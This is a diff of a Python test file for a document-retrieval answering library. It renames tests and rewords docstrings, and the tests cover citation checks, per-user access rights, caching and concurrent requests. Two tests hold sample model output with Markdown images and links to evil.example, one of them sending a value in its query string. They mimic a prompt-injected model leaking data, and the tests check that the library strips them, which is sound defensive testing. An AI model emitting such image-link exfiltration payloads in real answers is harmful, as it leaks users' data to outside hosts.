@@ -36,7 +36,7 @@ HEADCOUNT = text_block("The pump team earns 90,000 a year.", page=1, doc_id="pay
 
 @dataclass
 class Model:
-    """Writes this, and remembers what it was asked."""
+    """A model that writes this text, and records its prompts."""
 
     writes: str | Exception = ""
     id: str = "model-1"
@@ -56,7 +56,8 @@ Shelf = Callable[..., Library]
 
 @pytest.fixture
 async def shelf(tmp_path: Path) -> AsyncIterator[Shelf]:
-    """Makes a library over one index: public documents of a pump and its seal, and one for bob alone."""
+    """Yield a factory of libraries over one index: public documents about a pump and its seal, and one for bob
+    alone."""
     index = LocalIndex.open(tmp_path, None)
     for name, blocks, readers in (
         ("pump", [PUMP, FIGURE], "*"), ("seal", [SEAL], "*"), ("pay", [HEADCOUNT], "user:bob"),
@@ -78,14 +79,14 @@ def asking(query: str = "How fast does the pump turn?", **changes: object) -> Sy
 
 
 async def number_of(library: Library, model: Model, page: int) -> int:
-    """The number under which the model is offered this page."""
+    """Return the number under which this page is offered to the model."""
     await library.synthesize(asking(mode="llm"), ANN)
     lines = model.asked[-1].text.splitlines()
     at = next(n for n, line in enumerate(lines) if line.startswith("From: ") and line.endswith(f"S. {page}"))
     return int(lines[at - 2].strip("[]"))
 
 
-async def test_without_a_model_an_answer_is_composed_and_every_claim_stands_in_its_source(
+async def test_without_a_model_an_answer_is_composed_and_every_claim_is_in_its_source(
     shelf: Shelf,
 ) -> None:
     made = await shelf().synthesize(asking(), ANN)
@@ -95,7 +96,7 @@ async def test_without_a_model_an_answer_is_composed_and_every_claim_stands_in_i
     assert made.confidence >= 0.5
 
 
-async def test_a_good_answer_of_a_model_keeps_its_citations_and_lists_what_it_cites(shelf: Shelf) -> None:
+async def test_a_good_answer_of_a_model_keeps_its_citations_and_lists_its_sources(shelf: Shelf) -> None:
     model = Model()
     library = shelf(model, keep=0)
     n = await number_of(library, model, 45)
@@ -108,7 +109,7 @@ async def test_a_good_answer_of_a_model_keeps_its_citations_and_lists_what_it_ci
     assert made.confidence == pytest.approx(made.confidence_factors["answers"], abs=1e-4)
 
 
-async def test_by_source_each_claim_of_a_model_names_its_file_and_page(shelf: Shelf) -> None:
+async def test_cited_by_source_each_claim_of_a_model_names_its_file_and_page(shelf: Shelf) -> None:
     model = Model()
     library = shelf(model, keep=0)
     n = await number_of(library, model, 45)
@@ -117,7 +118,7 @@ async def test_by_source_each_claim_of_a_model_names_its_file_and_page(shelf: Sh
     assert made.answer == "The pump turns at 2900 revolutions per minute (Source: pump.pdf, S. 45)."
 
 
-async def test_an_invented_number_is_told(shelf: Shelf) -> None:
+async def test_an_invented_number_is_reported(shelf: Shelf) -> None:
     model = Model()
     library = shelf(model, keep=0)
     n = await number_of(library, model, 45)
@@ -128,13 +129,13 @@ async def test_an_invented_number_is_told(shelf: Shelf) -> None:
     assert made.answer.endswith("Please check it against further sources.")
 
 
-async def test_a_citation_of_no_source_is_told(shelf: Shelf) -> None:
+async def test_a_citation_of_no_source_is_reported(shelf: Shelf) -> None:
     made = await shelf(Model("The pump turns [77].")).synthesize(asking(), ANN)
     assert made.invalid_citations == ("77",)
     assert made.confidence == 0
 
 
-async def test_an_answer_without_citations_is_told_and_shows_what_was_offered(shelf: Shelf) -> None:
+async def test_an_answer_without_citations_is_reported_and_shows_the_offered_sources(shelf: Shelf) -> None:
     made = await shelf(Model("The pump turns at 2900 revolutions per minute.")).synthesize(asking(), ANN)
     assert made.uncited_claims == ("The pump turns at 2900 revolutions per minute.",)
     assert made.sources
@@ -147,14 +148,14 @@ async def test_not_found_in_sources_is_an_answer_without_confidence(shelf: Shelf
 
 
 @pytest.mark.parametrize("failure", [LLMError("it is busy."), Timeout("no answer in 60 seconds.")])
-async def test_a_model_that_fails_costs_its_text_alone(shelf: Shelf, failure: Exception) -> None:
+async def test_a_failing_model_costs_only_its_text(shelf: Shelf, failure: Exception) -> None:
     made = await shelf(Model(failure)).synthesize(asking(), ANN)
     assert made.mode == "compose"
     assert "2900 revolutions" in made.answer
     assert f"model-1 wrote no answer: {failure}" in made.warnings
 
 
-async def test_what_the_client_s_model_wrote_comes_before_the_endpoint(shelf: Shelf) -> None:
+async def test_the_clients_model_takes_precedence_over_the_endpoint(shelf: Shelf) -> None:
     endpoint, client = Model("The pump turns [1]."), Model("It turns [1].", id="client")
     library = shelf(endpoint)
     await library.drafted(asking(), ANN)
@@ -179,12 +180,12 @@ async def test_a_draft_is_the_same_in_every_round(shelf: Shelf) -> None:
     assert first == second
 
 
-async def test_there_is_no_draft_where_no_model_is_to_write_or_nothing_was_found(shelf: Shelf) -> None:
+async def test_there_is_no_draft_if_no_model_writes_or_nothing_was_found(shelf: Shelf) -> None:
     assert await shelf().drafted(asking(mode="compose"), ANN) is None
     assert await shelf().drafted(asking("zzyzx"), ANN) is None
 
 
-async def test_a_right_that_was_lost_while_the_client_s_model_wrote_costs_its_answer(shelf: Shelf) -> None:
+async def test_a_right_lost_while_the_clients_model_wrote_costs_its_answer(shelf: Shelf) -> None:
     library, client = shelf(), Model("The pump team earns 90,000 a year [1].", id="client")
     await library.drafted(asking("What does the pump team earn?"), BOB)
     index = library._index
@@ -196,7 +197,7 @@ async def test_a_right_that_was_lost_while_the_client_s_model_wrote_costs_its_an
     assert not client.asked
 
 
-async def test_a_short_question_is_understood_from_the_one_before(shelf: Shelf) -> None:
+async def test_a_short_question_is_understood_from_the_previous_one(shelf: Shelf) -> None:
     before = (Turn("user", "Tell me of the seal in clean water."), Turn("assistant", "It is a seal."))
     made = await shelf().synthesize(asking("How long does it last?", history=before), ANN)
     assert "lasts five years" in made.answer
@@ -208,7 +209,7 @@ async def test_several_short_questions_in_a_row_are_understood_from_the_first(sh
     assert "lasts five years" in made.answer
 
 
-async def test_an_answer_that_may_be_none_begins_with_the_doubt(shelf: Shelf) -> None:
+async def test_a_doubtful_answer_begins_with_the_doubt(shelf: Shelf) -> None:
     queries = ("How long does the seal last?", "Is the seal of the pump red?", "Which seal is near the pump?")
     doubtful = 0
     for query in queries:
@@ -219,7 +220,7 @@ async def test_an_answer_that_may_be_none_begins_with_the_doubt(shelf: Shelf) ->
     assert 0 < doubtful < len(queries)
 
 
-async def test_where_nothing_answers_the_reply_says_so_and_shows_the_first_words_of_what_is_near(
+async def test_if_nothing_answers_the_reply_says_so_and_quotes_the_closest_text(
     shelf: Shelf,
 ) -> None:
     made = await shelf().synthesize(asking("How fast does the pump Grundfos XR-900 turn?"), ANN)
@@ -237,7 +238,7 @@ async def test_where_nothing_answers_the_reply_says_so_and_shows_the_first_words
     )
 
 
-async def test_an_answer_warns_of_text_recognition_only_in_the_sources_that_it_cites(shelf: Shelf) -> None:
+async def test_an_answer_warns_of_ocr_only_for_the_sources_that_it_cites(shelf: Shelf) -> None:
     library = shelf()
     index = library._index
     assert isinstance(index, LocalIndex)
@@ -253,7 +254,7 @@ async def test_an_answer_warns_of_text_recognition_only_in_the_sources_that_it_c
     assert [warning for warning in of_scan.warnings if "scan.pdf page 3" in warning]
 
 
-async def test_a_draft_is_made_of_what_the_caller_may_read_now(shelf: Shelf) -> None:
+async def test_a_draft_is_written_from_currently_readable_documents(shelf: Shelf) -> None:
     library = shelf()
     question = asking("What does the pump team earn?")
     first = await library.drafted(question, BOB)
@@ -267,7 +268,7 @@ async def test_a_draft_is_made_of_what_the_caller_may_read_now(shelf: Shelf) -> 
     assert second is None or "90,000" not in second.prompt.text
 
 
-async def test_a_text_that_changed_while_the_client_s_model_wrote_costs_its_answer(shelf: Shelf) -> None:
+async def test_a_text_that_changed_while_the_clients_model_wrote_costs_its_answer(shelf: Shelf) -> None:
     library, client = shelf(), Model("The pump turns at 2900 revolutions per minute [1].", id="client")
     await library.drafted(asking(), ANN)
     index = library._index
@@ -279,7 +280,7 @@ async def test_a_text_that_changed_while_the_client_s_model_wrote_costs_its_answ
     assert "The sources changed while the answer was written, so it is not given." in made.warnings
 
 
-async def test_what_a_client_s_model_wrote_is_given_to_no_other_client(shelf: Shelf) -> None:
+async def test_a_text_by_one_clients_model_is_given_to_no_other_client(shelf: Shelf) -> None:
     library, client = shelf(Model("The pump turns [1].")), Model("It turns [1].", id="client")
     await library.drafted(asking(), ANN)
     assert (await library.synthesize(asking(), ANN, client)).model == "client"
@@ -288,13 +289,13 @@ async def test_what_a_client_s_model_wrote_is_given_to_no_other_client(shelf: Sh
 
 
 @pytest.mark.parametrize("failure", [RuntimeError("x"), KeyError("x"), TimeoutError(), OSError("x")])
-async def test_a_writer_that_fails_as_nobody_expected_costs_its_text_alone(shelf: Shelf, failure: Exception) -> None:
+async def test_a_writer_that_fails_unexpectedly_costs_only_its_text(shelf: Shelf, failure: Exception) -> None:
     made = await shelf(Model(failure)).synthesize(asking(), ANN)
     assert made.mode == "compose"
     assert "2900 revolutions" in made.answer
 
 
-async def test_a_check_that_fails_leaves_the_composed_answer(shelf: Shelf, monkeypatch: pytest.MonkeyPatch) -> None:
+async def test_a_failing_check_leaves_the_composed_answer(shelf: Shelf, monkeypatch: pytest.MonkeyPatch) -> None:
     def fails(*_: object) -> None:
         raise RuntimeError
 
@@ -304,14 +305,14 @@ async def test_a_check_that_fails_leaves_the_composed_answer(shelf: Shelf, monke
     assert "model-1 wrote an answer that could not be checked." in made.warnings
 
 
-async def test_a_marker_in_a_code_span_opens_nothing_when_it_is_named(shelf: Shelf) -> None:
+async def test_a_reported_marker_in_a_code_span_cannot_inject_an_image(shelf: Shelf) -> None:
     hostile = "It turns (Source: pump.pdf, S. 45 ` ) now ![x](https://evil.example/p.png) ` end."
     made = await shelf(Model(hostile)).synthesize(asking(citation_style="source"), ANN)
     images = [one for token in MarkdownIt().parse(made.answer) for one in token.children or () if one.type == "image"]
     assert images == []
 
 
-async def test_what_the_client_hands_in_comes_first_where_it_speaks_to_the_question(shelf: Shelf) -> None:
+async def test_relevant_observations_come_first(shelf: Shelf) -> None:
     seen = (
         Observation(
             "At the station the pump stood still at an outside temperature of 14 degrees.",
@@ -323,7 +324,7 @@ async def test_what_the_client_hands_in_comes_first_where_it_speaks_to_the_quest
     assert "14 degrees" in made.answer.split("*(Source:")[0]
 
 
-async def test_the_flaws_of_a_model_s_answer_are_told_in_words(shelf: Shelf) -> None:
+async def test_the_flaws_of_a_models_answer_are_reported_in_words(shelf: Shelf) -> None:
     flawed = "The pump turns [1]. It costs 77 euros [1]. It shines. It is new [99]."
     made = await shelf(Model(flawed)).synthesize(asking(), ANN)
     assert "Claims that do not stand in the sources that they cite: 1 of 4." in made.warnings
@@ -331,19 +332,19 @@ async def test_the_flaws_of_a_model_s_answer_are_told_in_words(shelf: Shelf) -> 
     assert "Citations of no source: 99." in made.warnings
 
 
-async def test_wanted_model_that_is_not_there_is_told(shelf: Shelf) -> None:
+async def test_a_requested_but_missing_model_is_reported(shelf: Shelf) -> None:
     made = await shelf().synthesize(asking(mode="llm"), ANN)
     assert made.mode == "compose"
     assert any("RAG_LLM_MODEL" in one for one in made.warnings)
 
 
-async def test_compose_asks_no_model(shelf: Shelf) -> None:
+async def test_compose_uses_no_model(shelf: Shelf) -> None:
     model = Model("no")
     assert (await shelf(model).synthesize(asking(mode="compose"), ANN)).mode == "compose"
     assert model.asked == []
 
 
-async def test_a_written_answer_serves_again_and_says_so(shelf: Shelf) -> None:
+async def test_a_written_answer_is_reused_and_says_so(shelf: Shelf) -> None:
     model = Model("It turns [1].")
     library = shelf(model)
     first, again = [await library.synthesize(asking(), ANN) for _ in range(2)]
@@ -354,7 +355,7 @@ async def test_a_written_answer_serves_again_and_says_so(shelf: Shelf) -> None:
 
 @dataclass
 class Slow(Model):
-    """Writes when it is told to."""
+    """A model that writes when it is told to."""
 
     go: anyio.Event = field(default_factory=anyio.Event)
 
@@ -372,7 +373,7 @@ async def all_at_once(
     callers: list[Caller],
     meanwhile: Callable[[], Awaitable[None]] | None = None,
 ) -> list[Synthesis]:
-    """Their answers to one question; the model writes when all of them wait for it."""
+    """Return all answers to one question. The model writes once all callers wait for it."""
     made: dict[int, Synthesis] = {}
 
     async def ask(n: int, caller: Caller) -> None:
@@ -393,7 +394,7 @@ async def all_at_once(
     return [made[n] for n in range(len(callers))]
 
 
-async def test_ten_equal_questions_at_once_are_written_for_once(shelf: Shelf) -> None:
+async def test_ten_equal_concurrent_questions_are_written_once(shelf: Shelf) -> None:
     model = Slow("The pump turns [1].")
     made = await all_at_once(shelf(model, keep=0), model, [ANN] * 10)
     assert len(model.asked) == 1
@@ -401,14 +402,14 @@ async def test_ten_equal_questions_at_once_are_written_for_once(shelf: Shelf) ->
     assert len({one.answer for one in made}) == 1
 
 
-async def test_two_callers_who_ask_the_same_at_once_share_nothing(shelf: Shelf) -> None:
+async def test_two_callers_with_the_same_concurrent_question_share_nothing(shelf: Shelf) -> None:
     model = Slow("The pump team earns 90,000 a year [1].")
     await all_at_once(shelf(model), model, [ANN, BOB, ANN])
     assert len(model.asked) == 2
     assert sum("90,000" in one.text for one in model.asked) == 1
 
 
-async def test_a_right_that_is_lost_while_several_wait_costs_each_of_them_the_answer(shelf: Shelf) -> None:
+async def test_a_right_lost_while_several_wait_costs_each_of_them_the_answer(shelf: Shelf) -> None:
     model = Slow("The pump team earns 90,000 a year [1].")
     library = shelf(model)
     index = library._index
@@ -423,7 +424,7 @@ async def test_a_right_that_is_lost_while_several_wait_costs_each_of_them_the_an
         assert "The sources changed while the answer was written, so it is not given." in made.warnings
 
 
-async def test_a_failure_is_told_to_all_who_waited_and_is_not_kept(shelf: Shelf) -> None:
+async def test_a_failure_is_reported_to_all_waiters_and_not_cached(shelf: Shelf) -> None:
     model = Slow(LLMError("it is busy."))
     library = shelf(model)
     for made in await all_at_once(library, model, [ANN] * 3):
@@ -449,7 +450,9 @@ async def test_a_failure_is_told_to_all_who_waited_and_is_not_kept(shelf: Shelf)
         ),
     ],
 )
-async def test_what_is_no_answer_falls_through_to_the_next_and_says_why(shelf: Shelf, rubbish: str, why: str) -> None:
+async def test_output_that_is_not_an_answer_falls_through_to_the_next_writer_with_the_reason(
+    shelf: Shelf, rubbish: str, why: str
+) -> None:
     client, endpoint = Model(rubbish, id="client"), Model("The pump turns [1].")
     library = shelf(endpoint, keep=60)
     await library.drafted(asking(), ANN)
@@ -459,7 +462,7 @@ async def test_what_is_no_answer_falls_through_to_the_next_and_says_why(shelf: S
     assert why in said
 
 
-async def test_rubbish_of_every_model_leaves_the_composed_answer_and_is_not_kept(shelf: Shelf) -> None:
+async def test_unusable_output_of_every_model_leaves_the_composed_answer_and_is_not_cached(shelf: Shelf) -> None:
     model = Model('{"error": "x"}')
     library = shelf(model)
     made = await library.synthesize(asking(), ANN)
@@ -470,7 +473,7 @@ async def test_rubbish_of_every_model_leaves_the_composed_answer_and_is_not_kept
     assert (await library.synthesize(asking(), ANN)).mode == "llm"
 
 
-async def test_a_claim_that_stands_in_another_source_than_it_cites_is_told_and_the_answer_kept(
+async def test_a_claim_found_in_another_source_than_it_cites_is_reported_and_the_answer_kept(
     shelf: Shelf,
 ) -> None:
     model = Model()
@@ -483,7 +486,7 @@ async def test_a_claim_that_stands_in_another_source_than_it_cites_is_told_and_t
     assert "(a value differs from the source)" in made.answer
 
 
-async def test_an_answer_in_another_language_than_the_sources_is_not_taken_for_rubbish(shelf: Shelf) -> None:
+async def test_an_answer_in_another_language_than_the_sources_is_not_rejected(shelf: Shelf) -> None:
     german = "Die Anlage dreht sich ziemlich schnell und ist aus schwerem Metall hergestellt worden [1]."
     made = await shelf(Model(german)).synthesize(asking("Wie schnell ist die Pumpe und wie schwer ist sie?"), ANN)
     assert made.mode == "llm"
@@ -498,7 +501,7 @@ async def test_an_answer_in_another_language_than_the_sources_is_not_taken_for_r
         "I couldn't find information about the colour of the pump.",
     ],
 )
-async def test_not_found_in_other_words_is_not_found(shelf: Shelf, said: str) -> None:
+async def test_a_reworded_not_found_counts_as_not_found(shelf: Shelf, said: str) -> None:
     made = await shelf(Model(said)).synthesize(asking(), ANN)
     assert (made.answer, made.mode) == ("Not found in sources", "llm")
 
@@ -510,7 +513,7 @@ async def test_without_a_hit_each_mode_says_so_in_its_own_words(shelf: Shelf, mo
     assert (made.answer, made.confidence, made.sources, model.asked) == (said, 0.0, (), [])
 
 
-async def test_another_caller_and_a_changed_source_are_written_for_anew(shelf: Shelf) -> None:
+async def test_another_caller_and_a_changed_source_get_a_new_answer(shelf: Shelf) -> None:
     model = Model("It turns [1].")
     library = shelf(model)
     await library.synthesize(asking(), ANN)
@@ -523,7 +526,7 @@ async def test_another_caller_and_a_changed_source_are_written_for_anew(shelf: S
     assert not (await library.synthesize(asking(), ANN)).cached
 
 
-async def test_what_only_bob_may_read_reaches_no_prompt_of_ann(shelf: Shelf) -> None:
+async def test_text_that_only_bob_may_read_is_in_no_prompt_of_ann(shelf: Shelf) -> None:
     model = Model("The pump turns [1].")
     library = shelf(model)
     await library.synthesize(asking("What does the pump team earn?"), ANN)
@@ -534,7 +537,7 @@ async def test_what_only_bob_may_read_reaches_no_prompt_of_ann(shelf: Shelf) -> 
         await library.synthesize(asking(block_ids=(HEADCOUNT.block_id,)), ANN)
 
 
-async def test_an_instruction_in_a_document_that_a_model_followed_fetches_nothing(shelf: Shelf) -> None:
+async def test_an_instruction_in_a_document_that_a_model_followed_loads_nothing(shelf: Shelf) -> None:
     model = Model("The pump turns [1]. ![x](https://evil.example/?q=2900) [more](https://evil.example)")
     made = await shelf(model).synthesize(asking(), ANN)
     assert "evil.example" not in made.answer
@@ -547,7 +550,7 @@ async def test_a_figure_of_the_sources_may_be_shown(shelf: Shelf) -> None:
     assert f"![Figure 3]({url})" in made.answer
 
 
-async def test_observations_are_sources_that_are_cited_by_their_address(shelf: Shelf) -> None:
+async def test_observations_are_sources_cited_by_their_address(shelf: Shelf) -> None:
     seen = (Observation("The pump is sold out until May.", "https://shop.example/pump", "Shop"),)
     made = await shelf().synthesize(asking("Is the pump sold out?", observations=seen), ANN)
     assert "sold out until May" in made.answer
@@ -561,7 +564,7 @@ async def test_observations_alone_are_enough_for_an_answer(shelf: Shelf) -> None
     assert 0 < made.confidence <= 0.6
 
 
-async def test_the_sources_that_did_not_fit_into_the_prompt_are_named(shelf: Shelf) -> None:
+async def test_sources_that_did_not_fit_into_the_prompt_are_named(shelf: Shelf) -> None:
     seen = tuple(
         Observation(" ".join(f"The pump moves water {n} times {m}." for m in range(200)), f"https://a.example/{n}")
         for n in range(20)
@@ -570,12 +573,12 @@ async def test_the_sources_that_did_not_fit_into_the_prompt_are_named(shelf: She
     assert any(one.startswith("Not shown to the model, for want of room: https://a.example/") for one in made.warnings)
 
 
-async def test_a_list_of_sources_that_the_model_wrote_itself_is_not_shown_twice(shelf: Shelf) -> None:
+async def test_a_source_list_written_by_the_model_is_not_shown_twice(shelf: Shelf) -> None:
     made = await shelf(Model("It turns [1].\n\n**Sources:**\n[1] pump.pdf\n[2] other.pdf\n")).synthesize(asking(), ANN)
     assert made.answer.count("[1]") == 2
     assert "other.pdf" not in made.answer
 
 
-async def test_that_nothing_was_found_is_told_in_the_language_of_the_question(shelf: Shelf) -> None:
+async def test_the_not_found_message_is_in_the_language_of_the_question(shelf: Shelf) -> None:
     made = await shelf().synthesize(asking("Wo ist der Zzyzx?"), ANN)
     assert (made.answer, made.confidence) == ("Keine passenden Informationen gefunden", 0.0)
